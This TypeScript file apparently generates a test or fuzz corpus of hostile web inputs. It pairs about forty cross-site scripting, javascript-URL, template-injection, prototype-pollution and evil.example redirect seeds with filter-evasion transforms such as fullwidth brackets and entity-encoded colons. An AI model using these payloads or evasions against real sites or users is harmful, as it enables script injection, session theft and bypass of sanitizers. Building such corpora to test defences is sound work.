/** Openings of markup, of addresses, of styles and of templates that have run scripts somewhere. `RUN` stands for the script. */
const SEEDS = [
  "<script>RUN</script>",
  "<img src=x onerror=RUN>",
  "<svg onload=RUN>",
  "<svg><script>RUN</script></svg>",
  "<iframe srcdoc='<script>parent.RUN</script>'>",
  "<math><mtext><table><mglyph><style><img src onerror=RUN>",
  "<a href=javascript:RUN>x</a>",
  "<body onload=RUN>",
  "<details open ontoggle=RUN>",
  "<input autofocus onfocus=RUN>",
  "<object data=javascript:RUN>",
  "<embed src=javascript:RUN>",
  "<base href=javascript:RUN//>",
  "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
  "<form action=javascript:RUN><button autofocus>x</button></form>",
  "<style>@import 'javascript:RUN';</style>",
  "<video><source onerror=RUN></video>",
  "<template><script>RUN</script></template>",
  '"><script>RUN</script>',
  "' onmouseover='RUN' autofocus onfocus='RUN",
  "javascript:RUN",
  "JaVaScRiPt:RUN",
  "javascript://%0aRUN",
  "java\tscript:RUN",
  "java\nscript:RUN",
  "\u0001javascript:RUN",
  "javascript\u003aRUN",
  "vbscript:RUN",
  "data:text/html,<script>RUN</script>",
  "data:image/svg+xml,<svg onload=RUN>",
  "blob:https://shop.example/RUN",
  "\\\\evil.example\\RUN",
  "//evil.example/RUN",
  "/\\evil.example/RUN",
  "/\t/evil.example/RUN",
  "view-source:javascript:RUN",
  "{{constructor.constructor('RUN')()}}",
  "${RUN}",
  "__proto__",
  "expression(RUN);background:url(javascript:RUN)",
  "</title></textarea></style></noscript><img src=x onerror=RUN>",
];

/** Ways to get past somebody who looks for the seeds. */
const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => ` ${text}`,
  (text) => text.replaceAll("<", "\uff1c").replaceAll(":", "&colon;"),
  (text) => `${text}\u2028${text}`,
  (text) => `{category}${text.toUpperCase()}{count}`,
];

/** At least 200 texts that want to run `run`, for every place of content that a hostile hand could fill. */
export const hostilePayloads = (run: string): string[] =>
  SEEDS.flatMap((seed) => DISGUISES.map((disguise) => disguise(seed.replaceAll("RUN", run))));
